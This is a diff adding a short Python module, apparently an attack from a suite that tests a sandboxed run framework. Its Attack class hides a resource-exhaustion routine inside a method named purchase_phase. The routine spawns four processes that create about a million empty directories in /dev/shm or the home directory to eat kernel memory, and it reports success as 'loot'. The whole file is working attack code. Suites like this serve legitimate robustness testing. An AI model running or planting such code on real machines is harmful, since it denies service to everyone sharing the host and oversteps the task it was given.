@@ -1,0 +1,31 @@
+"""Makes a million empty folders in /dev/shm, or at home where that is the machine's own: each takes a kibibyte of the kernel."""
+
+import os
+import time
+
+from aim import HOME, children_do, loot
+
+from run import ZEWDPCBaseRun
+
+CHILDREN = 4
+PLACE = "/dev/shm" if HOME == "/scratch" else HOME
+
+
+def make(number):
+    os.mkdir(f"{PLACE}/{number}")
+    top = os.open(f"{PLACE}/{number}", os.O_RDONLY)
+    for folder in range(1_000_000 // CHILDREN):
+        os.mkdir(str(folder), dir_fd=top)
+
+
+class Attack(ZEWDPCBaseRun):
+    def purchase_phase(self, unlabelled_dataset):
+        children_do(make, CHILDREN)
+        end = time.monotonic() + 9
+        while time.monotonic() < end:
+            time.sleep(0.2)
+            made = sum(os.stat(f"{PLACE}/{number}").st_nlink for number in range(CHILDREN) if os.path.isdir(f"{PLACE}/{number}"))
+            if made > 400_000:
+                loot(f"{made} folders")
+                return
+        print(made, flush=True)
